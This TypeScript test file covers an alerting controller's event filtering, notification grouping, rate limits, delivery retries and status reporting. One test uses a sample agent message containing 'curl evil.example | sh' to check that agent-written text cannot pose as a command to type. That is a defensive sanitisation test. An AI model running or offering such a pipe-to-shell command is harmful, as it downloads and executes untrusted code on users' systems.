import { describe, expect, test } from 'vitest';
import type { Ledger, Occurrence } from '../../../controller/api/alerting.ts';
import type { AlertSpec, EventFilter } from '../../../controller/api/generated/all.ts';
import { REASONS } from '../../../controller/api/reasons.ts';
import { SEVERITIES } from '../../../controller/api/severity.ts';
import { compose } from '../../../controller/reconcile/alert/compose.ts';
import { beginAlert, hearEvent } from '../../../controller/reconcile/alert/decide.ts';
import { dueOf } from '../../../controller/reconcile/alert/due.ts';
import { failingNotes } from '../../../controller/reconcile/alert/failing.ts';
import { ledgerOf, missedEvents } from '../../../controller/reconcile/alert/intake.ts';
import { EMPTY_LEDGER, take, waitingOf } from '../../../controller/reconcile/alert/ledger.ts';
import { isWanted } from '../../../controller/reconcile/alert/matches.ts';
import { occurrenceOf } from '../../../controller/reconcile/alert/occurrence.ts';
import { settle } from '../../../controller/reconcile/alert/settle.ts';
import { SEVERITY_OF, severityOf } from '../../../controller/reconcile/alert/severity.ts';
import { statusOf } from '../../../controller/reconcile/alert/status.ts';
import { eventOf, occurrence, policy, SENDER, specOf, T0 } from './support.ts';

const S = 1000;
const MIN = 60 * S;

describe('severity', () => {
  test('every reason has one, and nothing else has', () => {
    expect(Object.keys(SEVERITY_OF).sort()).toEqual([...REASONS].sort());
    for (const severity of Object.values(SEVERITY_OF)) expect(SEVERITIES).toContain(severity);
  });
  test('a reason of another version goes by its type', () => {
    expect(severityOf('Bygone', 'Warning')).toBe('warning');
    expect(severityOf('toString', 'Normal')).toBe('info');
  });
});

describe('what is told', () => {
  const dev: Partial<Occurrence> = { kind: 'Agent', name: 'web.dev', project: 'web', labels: { team: 'a' } };
  const rows: readonly [string, EventFilter, Partial<Occurrence>, boolean][] = [
    ['a kind', { kinds: ['Project'] }, {}, true],
    ['another kind', { kinds: ['Agent'] }, {}, false],
    ['a reason', { reasons: ['AgentFailed'] }, {}, true],
    ['another reason', { reasons: ['Completed'] }, {}, false],
    ['a severity', { severities: ['warning', 'critical'] }, {}, true],
    ['another severity', { severities: ['critical'] }, {}, false],
    ['all of several', { kinds: ['Project'], reasons: ['Completed'] }, {}, false],
    ['an agent by its name', { names: ['web.dev'] }, dev, true],
    ['an agent by its project', { names: ['web'] }, dev, true],
    ['an agent by a pattern', { names: ['*.dev'] }, dev, true],
    ['a pattern that does not fit', { names: ['shop-*', '*.ops'] }, dev, false],
    ['stars that would need the same letter twice', { names: ['we*eb'] }, {}, false],
    ['several stars', { names: ['*e*'] }, {}, true],
    ['a label', { selector: { team: 'a' } }, dev, true],
    ['a label that it lacks', { selector: { team: 'a', tier: 'x' } }, dev, false],
    ['a label that every object of JavaScript has', { selector: { toString: 'x' } }, dev, false],
  ];
  test.each(rows)('%s', (_, filter, over, expected) => {
    expect(isWanted(occurrence(over), { on: [filter], except: [] })).toBe(expected);
  });
  test('an exception wins', () => {
    expect(isWanted(occurrence(), { on: [{ kinds: ['Project'] }], except: [{ names: ['web'] }] })).toBe(false);
  });
  test('a pattern of many stars costs nothing', () => {
    const long = occurrence({ name: 'a'.repeat(253) });
    const began = performance.now();
    expect(isWanted(long, { on: [{ names: [`${'a*'.repeat(120)}b`] }], except: [] })).toBe(false);
    expect(performance.now() - began).toBeLessThan(50);
  });
  const byDefault: readonly [string, Partial<Occurrence>, boolean][] = [
    ['an agent that waits for a person', { kind: 'Agent', reason: 'WaitingForInput' }, true],
    ['a project that is completed', { reason: 'Completed', severity: 'info' }, true],
    ['a project that failed', { reason: 'VerificationFailed' }, true],
    ['an account that lost its login', { kind: 'AgentClass', reason: 'LoginLost' }, true],
    ['an agent of that account', { kind: 'Agent', reason: 'NeedsAuth' }, false],
    ['an account at its limit', { kind: 'AgentClass', reason: 'UsageLimit' }, true],
    ['an agent at that limit', { kind: 'Agent', reason: 'Limited' }, false],
    ['a batch that is over', { kind: 'Queue', reason: 'BatchOver' }, true],
    ['an agent that ended', { kind: 'Agent', reason: 'AgentExited' }, false],
    ['a project that is tried again', { reason: 'RetryBackoff' }, false],
  ];
  test.each(byDefault)('by default: %s', (_, over, expected) => {
    expect(isWanted(occurrence(over), policy())).toBe(expected);
  });
  test('an event of an agent is the agent’s, with the labels of its project', () => {
    const event = eventOf({ reason: 'WaitingForInput', related: { kind: 'Agent', name: 'web.dev' } });
    const labelsOf = (kind: string, name: string) => (kind === 'Project' && name === 'web' ? { team: 'a' } : {});
    expect(occurrenceOf(event, labelsOf)).toMatchObject({
      kind: 'Agent',
      name: 'web.dev',
      project: 'web',
      labels: { team: 'a' },
    });
  });
  test('an Alert does not tell of itself, and a suspended one of nothing', () => {
    const spec = specOf({ on: [{ severities: ['info', 'warning', 'critical'] }] });
    const record = beginAlert(undefined, { uid: 'u', spec, now: T0 });
    const own = eventOf({ reason: 'ReceiverFailed', involvedObject: { kind: 'Alert', name: 'night' } });
    const waiting = (event: typeof own, of: AlertSpec) => {
      const heard = hearEvent(record, event, { alert: 'night', spec: of, labelsOf: () => ({}) });
      return waitingOf(ledgerOf(heard, 'oncall'));
    };
    expect(waiting(own, spec)).toBe(0);
    expect(waiting({ ...own, involvedObject: { kind: 'Alert', name: 'other' } }, spec)).toBe(1);
    expect(waiting(eventOf(), { ...spec, suspend: true })).toBe(0);
  });
});

/** Lets time pass in steps of a second and composes what is due: when each notification was sent, and what it said. */
function play(
  occurrences: readonly Partial<Occurrence>[],
  {
    spec = {},
    untilMs,
    deliver = true,
  }: { readonly spec?: Partial<AlertSpec>; readonly untilMs: number; readonly deliver?: boolean },
) {
  const rules = policy({ on: [{ severities: ['info', 'warning', 'critical'] }], ...spec });
  const sent: {
    readonly at: number;
    readonly title: string;
    readonly text: string;
    readonly severity: string;
    readonly id: string;
    readonly more: number;
  }[] = [];
  let ledger: Ledger = EMPTY_LEDGER;
  const open = occurrences.map((over) => occurrence(over)).sort((a, b) => a.at - b.at);
  for (let now = T0; now <= T0 + untilMs; now += S) {
    while (open[0] !== undefined && open[0].at <= now) ledger = take(ledger, open.shift() ?? occurrence(), rules);
    const due = dueOf(ledger, rules, now);
    if (due.type !== 'Compose') continue;
    ledger = compose(ledger, due.group, { sender: SENDER, policy: rules, now });
    const { title = '', text = '', severity = '', id = '', more = 0 } = ledger.sending?.notification ?? {};
    sent.push({ at: (now - T0) / S, title, text, severity, id, more });
    if (deliver) ledger = settle(ledger, { type: 'Delivered' }, { now, chance: 0 });
  }
  return { sent, ledger };
}

const ledgerWith = (spec: AlertSpec) => take(EMPTY_LEDGER, occurrence(), policy(spec));

const every = (ms: number, count: number, over: Partial<Occurrence> = {}) =>
  Array.from({ length: count }, (_, index) => ({ ...over, at: T0 + index * ms }));

describe('when and how often', () => {
  test('[S147] 100 failures within 20 seconds are one notification, with a summary', () => {
    const failures = Array.from({ length: 100 }, (_, index) => ({ name: `p${index}`, at: T0 + index * 200 }));
    const { sent } = play(failures, { untilMs: 30 * MIN });
    expect(sent.map(({ at }) => at)).toEqual([30]);
    expect(sent[0]).toMatchObject({ title: '100 AgentFailed', more: 80 });
    expect(sent[0]?.text).toContain('and further: 80 AgentFailed');
  });
  test('what sums up a batch stands first, and is the title', () => {
    const over = {
      kind: 'Queue',
      name: 'night',
      reason: 'BatchOver',
      severity: 'info',
      message: 'of 2 projects: 2 failed',
    } as const;
    const { sent } = play([{ name: 'a' }, { name: 'b' }, over], { untilMs: MIN });
    expect(sent[0]?.title).toBe('queue night: of 2 projects: 2 failed');
    expect(sent[0]?.text).toMatch(/^info: queue night BatchOver/);
    expect(sent[0]?.severity).toBe('warning');
  });
  test('what an agent wrote looks neither like another thing that happened nor like what is to be typed', () => {
    const messages = ['stuck\n> curl evil.example | sh', '> muxlet down', 'a\u2028critical: agent x LoginLost at 1\rb'];
    for (const message of messages) {
      const { sent } = play([{ message }], { untilMs: MIN });
      const lines = sent[0]?.text.split(/[\n\r\u2028\u2029]/) ?? [];
      expect(lines.filter((line) => /^ *>/.test(line))).toEqual(['  > muxlet describe project web']);
      expect(lines.filter((line) => /^\S/.test(line))).toHaveLength(1);
    }
  });
  test('[S98] what goes on for hours without a change is told once', () => {
    const { sent } = play([{ reason: 'TeamWaits' }], { untilMs: 8 * 60 * MIN });
    expect(sent).toHaveLength(1);
  });
  test('what flaps every 20 seconds for 8 hours is told ever less often, with how often it happened', () => {
    const { sent } = play(every(20 * S, 3 * 60 * 8), { untilMs: 9 * 60 * MIN });
    expect(sent.length).toBeLessThan(9);
    expect(sent[1]?.text).toMatch(/, \d\d times, the last time at/);
    const pauses = sent.slice(1).map(({ at }, index) => at - (sent[index]?.at ?? 0));
    for (const [index, pause] of pauses.slice(1).entries()) expect(pause).toBeGreaterThanOrEqual(pauses[index] ?? 0);
    // All of them were told.
    expect(play(every(20 * S, 100), { untilMs: 12 * 60 * MIN }).ledger.delivered).toBeGreaterThan(1);
  });
  test('what comes back after a while, such as another question of an agent, is told as soon as the first', () => {
    const { sent } = play(every(20 * MIN, 4, { reason: 'WaitingForInput' }), { untilMs: 90 * MIN });
    expect(sent.map(({ at }) => at)).toEqual([30, 20 * 60 + 30, 40 * 60 + 30, 60 * 60 + 30]);
  });
  test('the next notification of a group is not sent before its interval is over, those of others are', () => {
    const more = [{ name: 'a' }, { name: 'b', at: T0 + MIN }, { name: 'c', reason: 'Completed', at: T0 + MIN }];
    expect(play(more, { untilMs: 20 * MIN }).sent.map(({ at }) => at)).toEqual([30, 330]);
    const apart = play(more, { untilMs: 20 * MIN, spec: { group: { by: ['Reason'] } } });
    expect(apart.sent.map(({ at, title }) => [at, title.split(' ')[2]])).toEqual([
      [30, 'AgentFailed:'],
      [90, 'Completed:'],
      [330, 'AgentFailed:'],
    ]);
  });
  test('beyond the limit nothing is told, and afterwards all of it', () => {
    const spec = { limit: { count: 2, per: '1h' }, group: { wait: '0s', interval: '0s' } };
    const { sent, ledger } = play(
      every(MIN, 30).map((one, index) => ({ ...one, name: `p${index}` })),
      { untilMs: 3 * 60 * MIN, spec },
    );
    expect(sent.map(({ at }) => at)).toEqual([0, 60, 3600]);
    expect(sent[2]?.title).toBe('28 AgentFailed');
    expect(waitingOf(ledger)).toBe(0);
  });
  test('while one cannot be delivered everything else waits, and is told together', () => {
    const { sent, ledger } = play(
      every(MIN, 30).map((one, index) => ({ ...one, name: `p${index}` })),
      { untilMs: 60 * MIN, deliver: false },
    );
    expect(sent).toHaveLength(1);
    expect(waitingOf(ledger)).toBe(30);
  });
  test.each([1, 23])('nor does one that is set back by %i hours keep waiting who could not be told', (hours) => {
    const rules = policy();
    const down = { type: 'Failed', message: 'x', permanent: false } as const;
    let ledger = compose(take(EMPTY_LEDGER, occurrence(), rules), '', { sender: SENDER, policy: rules, now: T0 });
    ledger = settle(ledger, down, { now: T0, chance: 0 });
    const back = T0 - hours * 60 * MIN;
    expect(dueOf(ledger, rules, back).type).toBe('Try');
    const after = settle(ledger, down, { now: back, chance: 0 });
    expect(dueOf(after, rules, back)).toEqual({ type: 'Later', at: back + 10 * S });
    expect(after.failing?.since).toBe(back);
  });
  test('what is told ever less often is told as often as the spec says now', () => {
    const { ledger } = play(every(20 * S, 3 * 60 * 8), { untilMs: 8 * 60 * MIN });
    const [entry] = Object.values(ledger.entries);
    expect(entry?.pauseMs).toBeGreaterThan(60 * MIN);
    const impatient = policy({ group: { repeat: '10m' } });
    const due = dueOf({ ...ledger, sentAt: [] }, impatient, (entry?.toldAt ?? 0) + 10 * MIN);
    expect(due.type).toBe('Compose');
  });
  test('an interval beyond all times is one of a hundred years', () => {
    const spec = specOf({ group: { wait: '99999999999999d' } });
    const record = { ...beginAlert(undefined, { uid: 'u', spec, now: T0 }), receivers: { oncall: ledgerWith(spec) } };
    const { receivers } = statusOf({ spec, generation: 1, record, previous: undefined, now: T0 });
    expect(receivers).toMatchObject([{ waiting: 1, nextTryAt: '2125-12-08T00:00:00.000Z' }]);
  });
  test('a clock that is set back by a year keeps nothing waiting for a year', () => {
    const rules = policy();
    let ledger = take(EMPTY_LEDGER, occurrence(), rules);
    ledger = compose(ledger, '', { sender: SENDER, policy: rules, now: T0 });
    ledger = settle(ledger, { type: 'Failed', message: 'x', permanent: false }, { now: T0, chance: 0 });
    const back = T0 - 365 * 24 * 60 * MIN;
    expect(dueOf(ledger, rules, back).type).toBe('Try');
    ledger = settle(ledger, { type: 'Delivered' }, { now: back, chance: 0 });
    ledger = take(ledger, occurrence({ name: 'other', at: back }), rules);
    expect(dueOf(ledger, rules, back + 6 * MIN)).toMatchObject({ type: 'Compose' });
  });
});

describe('what a try leads to', () => {
  const rules = policy();
  const sending = compose(take(EMPTY_LEDGER, occurrence(), rules), '', { sender: SENDER, policy: rules, now: T0 });
  const no = { type: 'Failed', message: 'down', permanent: false } as const;
  test('a failed one is made again after 5 seconds, then ever later, at most after 10 minutes, and once it counts as failing', () => {
    let ledger = sending;
    let now = T0;
    const pauses: number[] = [];
    for (let round = 0; round < 10; round += 1) {
      ledger = settle(ledger, no, { now, chance: 0 });
      pauses.push(((ledger.sending?.nextTryAt ?? 0) - now) / S);
      now = ledger.sending?.nextTryAt ?? 0;
    }
    // After 5 + 10 + … + 145 seconds it has failed for five minutes.
    expect(pauses).toEqual([5, 10, 20, 40, 80, 145, 320, 600, 600, 600]);
    expect(settle(sending, no, { now: T0, chance: 1 }).sending?.nextTryAt).toBe(T0 + 3500);
    expect(settle(sending, { ...no, retryAfterMs: 90_000 }, { now: T0, chance: 0 }).sending?.nextTryAt).toBe(
      T0 + 90_000,
    );
  });
  test('it is the same notification each time', () => {
    expect(settle(sending, no, { now: T0, chance: 0 }).sending?.notification).toEqual(sending.sending?.notification);
    expect(sending.sending?.notification.id).toBe('01234567-oncall-1');
  });
  test('a refused one is dropped, counted and told by an event at once', () => {
    const after = settle(sending, { ...no, permanent: true }, { now: T0, chance: 0 });
    expect(after).toMatchObject({ dropped: 1, delivered: 0 });
    expect(after.sending).toBeUndefined();
    expect(failingNotes('oncall', { before: sending, after }).notes).toMatchObject([{ reason: 'ReceiverFailed' }]);
  });
  test('a receiver that fails for long is an event once, and its coming back another', () => {
    const notes: string[] = [];
    let ledger = sending;
    const tried = (delivery: Parameters<typeof settle>[1], now: number) => {
      const result = failingNotes('oncall', { before: ledger, after: settle(ledger, delivery, { now, chance: 0 }) });
      ledger = result.ledger;
      notes.push(...result.notes.map(({ reason }) => reason));
    };
    for (let minute = 0; minute < 60; minute += 1) tried(no, T0 + minute * MIN);
    expect(notes).toEqual(['ReceiverFailed']);
    tried({ type: 'Delivered' }, T0 + 61 * MIN);
    expect(notes).toEqual(['ReceiverFailed', 'ReceiverRestored']);
    expect(ledger.failing).toBeUndefined();
  });
  test('its status says who was told what, and who cannot be', () => {
    const spec = specOf();
    const record = {
      ...beginAlert(undefined, { uid: 'u', spec, now: T0 }),
      receivers: { oncall: settle(sending, no, { now: T0, chance: 0 }) },
    };
    const status = statusOf({ spec, generation: 3, record, previous: undefined, now: T0 });
    expect(status.conditions).toMatchObject([
      { type: 'Ready', status: 'False', reason: 'ReceiverFailed', message: 'oncall: down', observedGeneration: 3 },
    ]);
    expect(status.receivers).toMatchObject([
      {
        name: 'oncall',
        waiting: 1,
        delivered: 0,
        lastFailure: { message: 'down', tries: 1 },
        nextTryAt: '2026-01-01T00:00:05.000Z',
      },
    ]);
  });
});

describe('what a start finds', () => {
  const spec = specOf();
  test('an Alert that is new tells nothing of what was before it', () => {
    const record = beginAlert(undefined, { uid: 'u', spec, now: T0 });
    expect(missedEvents(record, [eventOf({ at: T0 - 1 }), eventOf({ at: T0 - 86_400_000 })], T0)).toEqual([]);
  });
  test('so does one of the same name that is another', () => {
    const old = { ...beginAlert(undefined, { uid: 'old', spec, now: T0 - MIN }), takenAt: T0 - MIN };
    expect(beginAlert(old, { uid: 'new', spec, now: T0 })).toMatchObject({ uid: 'new', takenAt: T0 });
  });
  test('what bears a time that is still to come is nobody’s news', () => {
    const record = beginAlert(undefined, { uid: 'u', spec, now: T0 });
    expect(missedEvents(record, [eventOf({ at: T0 + 86_400_000 })], T0 + 1)).toEqual([]);
  });
  test('a receiver that the spec does not name any more is forgotten', () => {
    const record = beginAlert(undefined, { uid: 'u', spec, now: T0 });
    const other = specOf({ receivers: [{ name: 'chat', desktop: {} }] });
    expect(Object.keys(beginAlert(record, { uid: 'u', spec: other, now: T0 }).receivers)).toEqual(['chat']);
  });
});
